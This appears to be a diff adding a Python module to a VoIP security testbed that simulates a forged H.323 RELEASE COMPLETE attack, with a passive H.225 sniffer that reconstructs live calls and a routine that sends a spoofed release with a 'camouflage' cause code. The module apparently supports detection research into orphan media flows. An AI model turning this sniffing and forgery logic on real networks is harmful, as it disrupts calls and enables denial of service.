@@ -1,0 +1,113 @@
+"""The forged RELEASE COMPLETE attack — the H.323 twin of the BYE attack.
+
+H.225 call signalling is cleartext and unauthenticated, exactly like
+SIP: an attacker sniffing the segment learns a live call's CRV and the
+terminals' signalling addresses, then sends a forged RELEASE COMPLETE
+to one party.  That party stops its media; the other keeps streaming —
+an orphan flow, caught by the H323-001 rule with the same machinery as
+the SIP case.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.attacks.base import AttackReport
+from repro.h323.h225 import H225Error, H225Message, MessageType
+from repro.h323.testbed import H323Testbed
+from repro.net.addr import Endpoint
+from repro.net.packet import (
+    ETHERTYPE_IPV4,
+    IPPROTO_UDP,
+    EthernetFrame,
+    IPv4Packet,
+    PacketError,
+    UdpDatagram,
+)
+
+
+@dataclass(slots=True)
+class SpiedH323Call:
+    crv: int
+    caller_signaling: Endpoint | None = None
+    callee_signaling: Endpoint | None = None
+    media: dict[str, Endpoint] = field(default_factory=dict)
+    connected: bool = False
+    released: bool = False
+
+
+class H225Spy:
+    """Passively reconstructs H.323 calls off the hub."""
+
+    def __init__(self, testbed: H323Testbed) -> None:
+        self.calls: dict[int, SpiedH323Call] = {}
+        testbed.attacker_eye.subscribe(self._on_frame)
+
+    def _on_frame(self, frame: bytes, now: float) -> None:
+        try:
+            eth = EthernetFrame.decode(frame)
+            if eth.ethertype != ETHERTYPE_IPV4:
+                return
+            ip = IPv4Packet.decode(eth.payload)
+            if ip.protocol != IPPROTO_UDP or ip.is_fragment:
+                return
+            udp = UdpDatagram.decode(ip.payload, ip.src, ip.dst)
+            if udp.src_port != 1720 and udp.dst_port != 1720:
+                return
+            message = H225Message.decode(udp.payload)
+        except (PacketError, H225Error):
+            return
+        call = self.calls.setdefault(message.call_reference, SpiedH323Call(crv=message.call_reference))
+        src = Endpoint(ip.src, udp.src_port)
+        if message.message_type == MessageType.SETUP:
+            call.caller_signaling = src
+            if message.media is not None and message.calling_party:
+                call.media[message.calling_party] = message.media
+        elif message.message_type == MessageType.CONNECT:
+            call.callee_signaling = src
+            call.connected = True
+            if message.media is not None and message.called_party:
+                call.media[message.called_party] = message.media
+        elif message.message_type == MessageType.RELEASE_COMPLETE:
+            call.released = True
+
+    def newest_live_call(self) -> SpiedH323Call | None:
+        live = [c for c in self.calls.values() if c.connected and not c.released]
+        return live[-1] if live else None
+
+
+class ForgedReleaseAttack:
+    """Send a forged RELEASE COMPLETE to terminal A."""
+
+    name = "h323-forged-release"
+
+    def __init__(self, testbed: H323Testbed) -> None:
+        self.testbed = testbed
+        self.spy = H225Spy(testbed)
+        self.report = AttackReport(name=self.name)
+        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        call = self.spy.newest_live_call()
+        if call is None or call.caller_signaling is None:
+            self.report.details["error"] = "no live H.323 call observed"
+            return
+        release = H225Message(
+            message_type=MessageType.RELEASE_COMPLETE,
+            call_reference=call.crv,
+            cause=16,  # "normal call clearing" — camouflage
+        )
+        self._socket.send_to(call.caller_signaling, release.encode())
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.completed = True
+        self.report.details.update(
+            {"crv": call.crv, "victim": str(call.caller_signaling)}
+        )
